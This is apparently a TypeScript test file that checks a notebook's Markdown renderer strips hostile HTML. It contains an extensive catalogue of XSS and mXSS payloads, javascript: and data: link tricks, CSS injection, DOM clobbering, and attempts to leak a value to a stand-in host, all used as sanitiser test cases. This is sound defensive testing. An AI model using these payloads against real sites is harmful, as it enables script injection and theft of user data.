import '../../src/ui/theme.css';
import { afterEach, describe, expect, test } from 'vitest';
import type { FigureLook } from '../../src/core/notebook/live-figures';
import { markdownToHtml } from '../../src/ui/notebook/markdown';

/** What a hostile text would have to reach: a request to this address, a dialog, a flag, or the look of the page. */
const probe = `${location.origin}/hostile-probe`;
const trip = 'window.tripped=1';

declare global {
  interface Window {
    tripped?: number;
  }
}

const hostile: Readonly<Record<string, string>> = {
  'script element': `<script>${trip}</script>`,
  'script in upper case': `<SCRIPT SRC=${probe}></SCRIPT>`,
  'script after a heading': `# a\n<script>alert(1)</script>`,
  'picture with onerror': `<img src=x onerror="${trip}">`,
  'remote picture as HTML': `<img src="${probe}">`,
  'remote picture': `![a](${probe}?1)`,
  'remote picture by reference': `![a][x]\n\n[x]: ${probe}?2`,
  'picture in a link': `[![a](${probe}?3)](${probe}?4)`,
  'picture with a title': `![a](${probe}?5 "onerror=${trip}")`,
  'picture as data': '![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  'picture as png data': '![a](data:image/png;base64,iVBORw0KGgo=)',
  'javascript link': `[a](javascript:${trip})`,
  'javascript link in capitals': `[a](JaVaScRiPt:${trip})`,
  'javascript link with a tab': `[a](java\tscript:${trip})`,
  'javascript link as entities': `[a](&#106;avascript&#58;${trip})`,
  'javascript link with percent': `[a](javascript%3A${trip})`,
  'javascript link with a control character': `[a](\u0001javascript:${trip})`,
  'javascript in angle brackets': `<javascript:${trip}>`,
  'javascript by reference': `[a][x]\n\n[x]: javascript:${trip}`,
  'vbscript link': '[a](vbscript:msgbox(1))',
  'data link': `[a](data:text/html,<script>${trip}</script>)`,
  'data link in base64': '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'file link': '[a](file:///etc/passwd)',
  'blob link': `[a](blob:${location.origin}/x)`,
  'link without a scheme': '[a](//hostile.invalid/x)',
  'link title breaking out': `[a](https://hostile.invalid "x\\" onmouseover=\\"${trip}")`,
  'event handler on a link': `<a href="#" onclick="${trip}" autofocus onfocus="${trip}">a</a>`,
  'style element': '<style>body{display:none}*{color:rgb(1,2,3)!important}</style>',
  'style attribute': '<p style="position:fixed;inset:0;background:red">a</p>',
  'style by import': `<style>@import "${probe}"</style>`,
  'style sheet link': `<link rel=stylesheet href="${probe}">`,
  frame: `<iframe src="${probe}" srcdoc="<script>parent.tripped=1</script>"></iframe>`,
  'object and embed': `<object data="${probe}"></object><embed src="${probe}">`,
  form: `<form action="${probe}"><input name=a autofocus onfocus="${trip}"><button>a</button></form>`,
  'button with formaction': `<button form=x formaction="javascript:${trip}">a</button>`,
  'base element': '<base href="https://hostile.invalid/">',
  refresh: `<meta http-equiv="refresh" content="0;url=${probe}">`,
  'svg with onload': `<svg onload="${trip}"><script>${trip}</script></svg>`,
  'svg use': `<svg><use href="${probe}#a"></use><image href="${probe}"/></svg>`,
  'svg animate': `<svg><a><animate attributeName=href values=javascript:${trip} /><text>a</text></a></svg>`,
  'math with mglyph': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${trip}&gt;">`,
  'math with link': `<math><maction actiontype="statusline#" xlink:href="javascript:${trip}">a</maction></math>`,
  noscript: `<noscript><p title="</noscript><img src=x onerror=${trip}>">`,
  comment: `<!-- --!><img src=x onerror=${trip}> -->`,
  'conditional comment': `<!--[if gte IE 4]><script>${trip}</script><![endif]-->`,
  cdata: `<![CDATA[<script>${trip}</script>]]>`,
  'processing instruction': `<?xml-stylesheet href="${probe}"?>`,
  template: `<template shadowrootmode=open><img src="${probe}"></template>`,
  'video and audio': `<video src="${probe}" autoplay onerror="${trip}"></video><audio src="${probe}"></audio><source srcset="${probe}">`,
  details: `<details open ontoggle="${trip}"><summary>a</summary></details>`,
  'clobbered names': '<form name=document id=document><input name=body></form><a id=location href=x>a</a>',
  'fence with a hostile word': '```x"><img/src=x/onerror=window.tripped=1>\na\n```',
  'code with HTML': `\`<img src=x onerror=${trip}>\``,
  'table with HTML': `| a |\n|---|\n| <img src=x onerror=${trip}> |`,
  'link text with HTML': `[<img src=x onerror=${trip}>](#a)`,
  'alt text with HTML': `![<img src=x onerror=${trip}>](${probe}?6)`,
  entities: `&lt;img src=x onerror=${trip}&gt;`,
  'dialog and popover': `<dialog open>a</dialog><div popover id=p>a</div><button popovertarget=p>a</button>`,
  'custom element': `<x-a is="x-b" onclick="${trip}">a</x-a>`,
  marquee: `<marquee onstart="${trip}">a</marquee>`,
};

/** Puts HTML where the page would, and says what it did. */
async function effects(html: string): Promise<{ tripped: boolean; dialogs: number; requests: string[]; look: string }> {
  delete window.tripped;
  let dialogs = 0;
  const kept = { alert: window.alert, confirm: window.confirm, prompt: window.prompt };
  Object.assign(window, { alert: () => dialogs++, confirm: () => dialogs++, prompt: () => dialogs++ });
  performance.clearResourceTimings();
  const place = document.createElement('div');
  document.body.append(place);
  place.innerHTML = html;
  for (const link of place.querySelectorAll('a')) {
    link.addEventListener('click', (event) => event.preventDefault(), { once: true });
    if (!link.href.startsWith('javascript:')) link.click();
  }
  await new Promise((resolve) => setTimeout(resolve, 60));
  const requests = hostileRequests();
  place.remove();
  Object.assign(window, kept);
  return { tripped: window.tripped !== undefined, dialogs, requests, look: lookOfPage() };
}

function hostileRequests(): string[] {
  return performance
    .getEntriesByType('resource')
    .map((entry) => entry.name)
    .filter((name) => /hostile/.test(name));
}

function lookOfPage(): string {
  const { display, color, backgroundColor, position } = getComputedStyle(document.body);
  return [display, color, backgroundColor, position, document.baseURI].join(' ');
}

const allowed = new Set(
  'H1 H2 H3 H4 H5 H6 P STRONG EM S UL OL LI BLOCKQUOTE CODE PRE HR BR A TABLE THEAD TBODY TR TH TD DATA MARK'.split(' '),
);

afterEach(() => document.querySelectorAll('body > style').forEach((style) => style.remove()));

describe('hostile Markdown', () => {
  test('there are enough cases, and the watch sees what it should when nothing is sanitised', async () => {
    expect(Object.keys(hostile).length).toBeGreaterThanOrEqual(40);
    const before = lookOfPage();
    // Asked for by the page itself, so that its request has ended when the next case looks for its own.
    const control = document.createElement('img');
    document.body.append(control);
    const failed = new Promise((resolve) => control.addEventListener('error', resolve));
    control.src = `${probe}?control`;
    await failed;
    await expect.poll(hostileRequests).toEqual([`${probe}?control`]);
    control.remove();
    expect((await effects('<img src="data:," onerror="window.tripped=1;alert(1)">')).tripped).toBe(true);
    const style = document.createElement('style');
    style.textContent = 'body{color:rgb(1,2,3)}';
    document.body.append(style);
    expect(lookOfPage()).not.toBe(before);
  });

  test.each(Object.entries(hostile))('%s does nothing', async (_, text) => {
    const before = lookOfPage();
    let all = '';
    for (const markdown of [text, `a ${text} b`, `- ${text}`, `> ${text}\n\n${text}`]) {
      const html = markdownToHtml(markdown, { language: 'vi', look: () => undefined });
      const { body } = new DOMParser().parseFromString(html, 'text/html');
      for (const element of body.querySelectorAll('*')) {
        expect(allowed.has(element.tagName), element.outerHTML).toBe(true);
        for (const { name } of element.attributes)
          expect(['href', 'title', 'target', 'rel', 'start', 'align'], element.outerHTML).toContain(name);
        const href = element.getAttribute('href');
        if (href !== null) expect(href).toMatch(/^(#|https?:\/\/|mailto:)/);
        if (href !== null && !href.startsWith('#'))
          expect([element.getAttribute('rel'), element.getAttribute('target')]).toEqual(['noopener noreferrer', '_blank']);
      }
      all += `<div>${html}</div>`;
    }
    expect(await effects(all)).toEqual({ tripped: false, dialogs: 0, requests: [], look: before });
  });

  test('no value of a figure becomes markup, wherever it stands, nor gets into an address', async () => {
    const before = lookOfPage();
    const places = [
      '{{ a }}',
      '**{{ a }}**',
      '# {{ a }}',
      '- {{ a }}',
      '[{{ a }}](#x)',
      '| a |\n|---|\n| {{ a \\| 1 }} |',
      '{{ a }}. x',
      '> {{ a }}',
    ];
    for (const value of [
      ...Object.values(hostile),
      '1',
      '# x',
      '- x',
      '](https://hostile.invalid)',
      '{{ a }}',
      '`x`',
      '&amp;',
      '\n\n# x',
    ]) {
      for (const place of places) {
        const html = markdownToHtml(place, { language: 'en', look: () => value });
        const { body } = new DOMParser().parseFromString(html, 'text/html');
        expect(body.querySelector('data')!.textContent).toBe(value.replace(/\s+/g, ' ').trim());
        expect(body.querySelector('data')!.childElementCount).toBe(0);
      }
      expect(await effects(markdownToHtml(places.join('\n\n'), { language: 'en', look: () => value }))).toMatchObject({
        tripped: false,
        dialogs: 0,
        requests: [],
        look: before,
      });
    }
    const secret: FigureLook = () => 'secret-value';
    for (const leak of [
      '[a](https://hostile.invalid/{{ a }})',
      '[a](<https://hostile.invalid/{{ a }}>)',
      '[a][x]\n\n[x]: https://hostile.invalid/{{ a }}',
      '<https://hostile.invalid/{{a}}>',
      '[a](https://hostile.invalid "{{ a }}")',
      '![a](https://hostile.invalid/{{ a }})',
      '[a](mailto:x@y?body={{ a }})',
    ]) {
      const { body } = new DOMParser().parseFromString(markdownToHtml(leak, { language: 'vi', look: secret }), 'text/html');
      for (const link of body.querySelectorAll('a')) expect(link.getAttribute('href')).not.toContain('secret');
    }
  });
});

describe('Markdown', () => {
  const html = (text: string, look?: FigureLook) => markdownToHtml(text, { language: 'vi', ...(look && { look }) }).trim();

  test('shows figures in the language of the reader, and says where they come from', () => {
    const look: FigureLook = (name, column, row) => (name === 'k' && column === 'rate' && row < 2 ? [98.456, null][row] : undefined);
    expect(html('Đạt **{{ k.rate | 1 % }}**', look)).toBe('<p>Đạt <strong><data title="k.rate | 1 %">98,5&nbsp;%</data></strong></p>');
    expect(markdownToHtml('{{ k.rate }}', { language: 'en', look })).toContain('>98.46<');
    expect(html('{{ k.rate[2] }}', look)).toBe('<p><mark title="Không có số liệu">–</mark></p>');
    expect(html('{{ k.other }}', look)).toMatch(/<mark title="Không có ô [^"]+">k.other \?<\/mark>/);
    expect(html('`{{ k.rate }}` {{ K }}', look)).toBe('<p><code>{{ k.rate }}</code> {{ K }}</p>');
    expect(html('```\n{{ k.rate }}\n```\n\n    {{ k.rate }}', look)).not.toContain('<data');
    expect(html('{{ k.rate }}')).toBe('<p>{{ k.rate }}</p>');
  });

  test('puts the address of a picture in its place', () => {
    expect(html('![Bản đồ](https://x.invalid/a.png)')).toBe('<p>Bản đồ (https://x.invalid/a.png)</p>');
  });

  test('opens links of other places in a window of their own', () => {
    expect(html('[a](https://x.invalid/) [b](#c)')).toMatch(/<a [^>]*rel="noopener noreferrer"[^>]*>a<\/a> <a href="#c">b<\/a>/);
  });

  test('keeps the alignment of a table', () => {
    expect(html('| a | b |\n|---|---:|\n| 1 | 2 |')).toContain('<td align="right">2</td>');
  });
});
